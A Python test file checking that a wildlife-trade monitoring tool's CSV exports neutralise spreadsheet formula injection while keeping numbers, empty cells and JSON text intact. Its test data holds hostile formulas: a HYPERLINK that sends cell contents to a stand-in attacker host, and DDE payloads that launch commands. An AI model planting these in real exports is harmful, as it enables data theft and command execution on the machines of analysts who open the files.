"""Formula-safe CSV: every CSV writer, fed hostile seller text, writes no cell that a
spreadsheet would run, keeps numbers and empty cells as they are, and the JSON Lines
exports keep the text exactly as written.

The CSV writers are discovered from the export registry (every kind with a ``csv``
format) plus the takedown writer and ``score``; a new CSV kind without hostile rows here
fails :func:`test_every_csv_kind_is_walked`, and a ``csv.writer`` anywhere else in the
package fails :func:`test_no_csv_writer_bypasses_the_safe_one`.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

from wildtrace.act.exports import EXPORTERS
from wildtrace.act.exports.safecsv import FORMULA_STARTS, safe_cell
from wildtrace.act.material import CaseListing, CaseMaterial
from wildtrace.act.takedown import takedown_csv
from wildtrace.app.scoring import ScoreJob, write_scores
from wildtrace.assess.dataset import Table
from wildtrace.measure.market import MarketRow, summarise
from wildtrace.records import Case, Venue

PACKAGE = Path(__file__).resolve().parent.parent / "wildtrace"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
           "\r=1+1"]


def _listing_row(i: int, text: str) -> dict[str, Any]:
    return {"id": i, "url": f"https://shop.example/{i}", "title": text, "description": text,
            "price": -12.5, "currency": "EUR", "seller": text, "location": text,
            "posted": text, "language": "",
            "identifiers": json.dumps([{"kind": "phone", "value": "+447700900123"}]),
            "taxa": text, "cites": "", "relevant": None, "score": None, "flags": text,
            "capture_sha256": None, "source": text, "origin": text}


def _listings() -> list[dict[str, Any]]:
    return [_listing_row(i, t) for i, t in enumerate(HOSTILE, start=1)]


def _venues() -> list[Venue]:
    now = datetime(2024, 5, 1, tzinfo=UTC)
    return [Venue(t, t, t, t, 3, 2, 1, now, None) for t in HOSTILE]


def _graph() -> nx.Graph:
    g = nx.Graph()
    for t in HOSTILE:
        g.add_node(f"account:{t}", label=t, kind="account", platform=t)
        g.add_node(t, label=t, kind="phone")
        g.add_edge(f"account:{t}", t, kind=t, weight=-1)
    return g


def _market_rows() -> list[MarketRow]:
    return [MarketRow(i, f"2024-0{1 + i % 3}-01", t, t, t, t, -12.5 if i % 2 else None, t,
                      None, "EUR", None) for i, t in enumerate(HOSTILE)]


HOSTILE_ROWS: dict[str, Callable[[], Any]] = {
    "listings": _listings, "venues": _venues, "graph": _graph, "prices": _market_rows,
    "volume": lambda: summarise(_market_rows()),
}
CSV_KINDS = sorted(k for k, e in EXPORTERS.items() if "csv" in e.formats)


def _dicts(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(rows: list[list[str]], where: str) -> None:
    body = [c for r in rows for c in r]
    assert body, f"{where}: nothing written"
    for cell in body:
        assert cell != "'", f"{where}: an empty cell was written as a lone apostrophe"
        if cell[:1] in FORMULA_STARTS:
            float(cell)  # only a plain number may start with + or -


def test_every_csv_kind_is_walked() -> None:
    assert CSV_KINDS, "the registry has no CSV writer?"
    assert set(CSV_KINDS) <= set(HOSTILE_ROWS), \
        f"add hostile rows for {sorted(set(CSV_KINDS) - set(HOSTILE_ROWS))}"


@pytest.mark.parametrize("kind", CSV_KINDS)
def test_registry_csv_writers_neutralise_formulas(kind: str, tmp_path: Path) -> None:
    out = tmp_path / kind / f"{kind}.csv"
    out.parent.mkdir()
    EXPORTERS[kind].write(HOSTILE_ROWS[kind](), "csv", out)
    files = sorted(out.parent.glob("*.csv"))
    assert out in files
    text = ""
    for f in files:
        rows = _cells(f.read_text(encoding="utf-8"))
        _assert_safe(rows, f.name)
        text += f.read_text(encoding="utf-8")
    # the hostile text is still there, readable, behind its apostrophe
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text


def test_numbers_and_empty_cells_are_not_mangled(tmp_path: Path) -> None:
    out = tmp_path / "prices.csv"
    EXPORTERS["prices"].write(_market_rows(), "csv", out)
    rows = _dicts(out)
    assert [r["price"] for r in rows[:2]] == ["", "-12.5"]
    assert rows[0]["price_converted"] == "" and rows[0]["rate_year"] == ""
    assert safe_cell(-3) == -3 and safe_cell("-3.5") == "-3.5" and safe_cell("+1e3") == "+1e3"
    assert safe_cell("") == "" and safe_cell(None) == ""
    assert safe_cell("-1+1") == "'-1+1" and safe_cell("+44 7700 900123") == "'+44 7700 900123"


@pytest.mark.parametrize("kind", sorted(k for k, e in EXPORTERS.items()
                                        if "jsonl" in e.formats and k in HOSTILE_ROWS))
def test_jsonl_keeps_the_original_text(kind: str, tmp_path: Path) -> None:
    out = tmp_path / f"{kind}.jsonl"
    EXPORTERS[kind].write(HOSTILE_ROWS[kind](), "jsonl", out)
    values = {v for line in out.read_text(encoding="utf-8").splitlines()
              for v in json.loads(line).values() if isinstance(v, str)}
    assert set(HOSTILE) <= values


def test_takedown_csv_neutralises_formulas() -> None:
    case = Case(1, "c", "", "open", "analyst")
    items = [CaseListing({**_listing_row(i, t), "url": "https://shop.example/x"}, [],
                         {"taxa": t, "cites": "I", "reasons": t})
             for i, t in enumerate(HOSTILE, start=1)]
    text = takedown_csv(CaseMaterial(case, items, []), "shop.example")
    rows = _cells(text)
    assert len(rows) == len(HOSTILE) + 1
    _assert_safe(rows, "takedown")
    assert rows[1][2] == "'" + HOSTILE[0]


@dataclass
class _Verdict:
    relevant: bool = True
    score: float = 0.9
    taxa: tuple[str, ...] = ("Loxodonta africana",)
    cites: str = "I"
    flags: tuple[str, ...] = ("code_word",)
    risk: float = 0.5


class _Scorer:
    version = "test"

    def assess(self, texts: list[str]) -> list[_Verdict]:
        return [_Verdict() for _ in texts]


def test_score_csv_keeps_every_column_and_neutralises_formulas(tmp_path: Path) -> None:
    rows = [{"text": t, "price": "-12.5", "note": ""} for t in HOSTILE]
    table = Table(tmp_path / "in.csv", ["text", "price", "note"], rows, list(HOSTILE))
    out = tmp_path / "scored.csv"
    write_scores(ScoreJob(table, _Scorer()), out)  # type: ignore[arg-type]
    written = _dicts(out)
    assert len(written) == len(rows)
    assert {"text", "price", "note", "wt_relevant", "wt_score"} <= set(written[0])
    _assert_safe(_cells(out.read_text(encoding="utf-8")), "score")
    assert [r["price"] for r in written] == ["-12.5"] * len(rows)
    assert [r["note"] for r in written] == [""] * len(rows)
    assert written[0]["text"] == "'" + HOSTILE[0]


def test_no_csv_writer_bypasses_the_safe_one() -> None:
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if path.name == "safecsv.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
    assert not found, "CSV written without safecsv (formula injection): " + ", ".join(found)
